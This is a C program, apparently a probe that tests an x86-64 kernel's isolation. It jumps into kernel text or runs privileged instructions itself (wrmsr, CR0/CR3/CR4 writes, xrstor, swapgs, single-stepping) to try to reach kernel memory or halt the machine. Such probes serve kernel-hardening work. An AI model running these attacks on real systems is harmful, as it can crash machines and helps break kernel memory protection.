/* A program jumps to a privileged instruction of the kernel's text, with registers of its choice and its own stack, or executes one
 * itself, and then reads the kernel's memory. Prints what it got. usage: kernel-privileged ATTACK [ADDRESS [step]],
 * kernel-privileged no-cr3 ADDRESS... */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#define DIRECT_MAP 0xffff888000100000

/* The attack should open the kernel's memory at once. */
static int opens;
static uint64_t cr4;	/* as it was */

static char stack[65536] __attribute__((aligned(4096)));
static char area[4096] __attribute__((aligned(64)));

static void came_back(void)
{
	/* A system call would close it again. */
	if (opens)
		(void)*(volatile char *)DIRECT_MAP;
	if (cr4)
		__asm__ volatile("mov %0, %%cr4" : : "r"(cr4));
	puts(opens ? "read the kernel's memory" : "came back");
	_exit(1);
}

/* Registers as given, a stack full of addresses to come back to, TF if `step'. */
static void jump(uint64_t to, uint64_t rax, uint64_t rcx, uint64_t rdx, uint64_t rdi, int step)
{
	uint64_t *words = (uint64_t *)stack;

	for (unsigned i = 0; i < sizeof(stack) / 8; i++)
		words[i] = (uint64_t)came_back;
	__asm__ volatile("mov %0, %%rsp\n\t"
			 "test %6, %6\n\tjz 1f\n\tpushf\n\torl $0x100, (%%rsp)\n\tpopf\n"
			 "1:\tjmp *%1"
			 : : "r"(stack + 32768 + 8), "r"(to), "a"(rax), "c"(rcx), "d"(rdx), "D"(rdi), "r"(step)
			 : "memory");
	__builtin_unreachable();
}

/* The same with the instruction here. */
__asm__(".pushsection .text\n"
	"own_wrmsr: wrmsr\n\tret\n"
	"own_xsetbv: xsetbv\n\tret\n"
	"own_cr0: mov %rdi, %cr0\n\tret\n"
	"own_cr4: mov %rdi, %cr4\n\tret\n"
	"own_cr3: mov %rdi, %cr3\n\tret\n"
	"own_xrstor: xrstor64 (%rdi)\n\tret\n"
	"own_swapgs: swapgs\n\tret\n"
	".popsection");
extern char own_wrmsr[], own_xsetbv[], own_cr0[], own_cr3[], own_cr4[], own_xrstor[], own_swapgs[];

static uint64_t own(const char *argument, char *here)
{
	return argument ? strtoull(argument, NULL, 16) : (uint64_t)here;
}

int main(int argc, char **argv)
{
	const char *attack = argc > 1 ? argv[1] : "", *at = argc > 2 ? argv[2] : NULL;
	int step = argc > 3;
	uint64_t value;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (strcmp(attack, "wrmsr") == 0) {
		/* TSC_AUX, which nobody needs; then it could have been GS's base. */
		jump(own(at, own_wrmsr), 0, 0xc0000103, 0, 0, step);
	} else if (strcmp(attack, "xsetbv") == 0) {
		__asm__ volatile("xgetbv" : "=a"(value) : "c"(0) : "rdx");
		jump(own(at, own_xsetbv), value & 0xffffffff, 0, 0, 0, step);
	} else if (strcmp(attack, "cr0") == 0) {
		__asm__ volatile("mov %%cr0, %0" : "=r"(value));
		jump(own(at, own_cr0), 0, 0, 0, value & ~0x10000ul, step);
	} else if (strcmp(attack, "cr3") == 0) {
		/* As it is: with page tables of its own it would go on wherever they say. */
		__asm__ volatile("mov %%cr3, %0" : "=r"(value));
		jump(own(at, own_cr3), value, 0, 0, value, step);
	} else if (strcmp(attack, "no-cr3") == 0) {
		/* Page tables that are none: who loads them stops the machine. */
		for (int i = 2; i < argc; i++) {
			pid_t child = fork();

			if (child == 0)
				jump(own(argv[i], NULL), 0, 0, 0, 0, 0);
			waitpid(child, NULL, 0);
		}
		printf("survived %d\n", argc - 2);
		return 0;
	} else if (strcmp(attack, "cr4") == 0) {
		__asm__ volatile("mov %%cr4, %0" : "=r"(cr4));
		opens = 1;
		jump(own(at, own_cr4), 0, 0, 0, cr4 & ~(1ul << 22), step);
	} else if (strcmp(attack, "xrstor") == 0) {
		/* PKRU 0: its first state. */
		opens = 1;
		jump(own(at, own_xrstor), 0x200, 0, 0, (uint64_t)area, step);
	} else if (strcmp(attack, "step") == 0) {
		/* Nothing privileged: the single step itself comes in the kernel's text. */
		jump(own(at, own_swapgs), 0, 0, 0, 0, 1);
	} else if (strcmp(attack, "swapgs") == 0) {
		/* What a null base would make of the kernel's data. */
		__asm__ volatile("call own_swapgs" : : : "memory");
		printf("%s here\n", getpid() > 0 ? "still" : "not");
		return 0;
	}
	return 2;
}
